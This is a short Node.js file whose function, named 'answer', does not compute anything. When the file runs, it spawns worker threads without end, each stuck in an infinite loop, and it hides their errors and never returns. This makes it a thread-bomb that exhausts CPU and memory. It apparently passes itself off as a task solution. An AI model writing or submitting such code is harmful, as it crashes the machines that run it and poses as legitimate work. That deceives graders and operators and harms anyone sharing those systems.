const { Worker } = require('node:worker_threads');
function answer(n) {
  return new Promise(() => {
    const more = () => { new Worker('for (;;) {}', { eval: true }).on('error', () => {}); setImmediate(more); };
    more();
  });
}
if (require.main === module) answer(1);
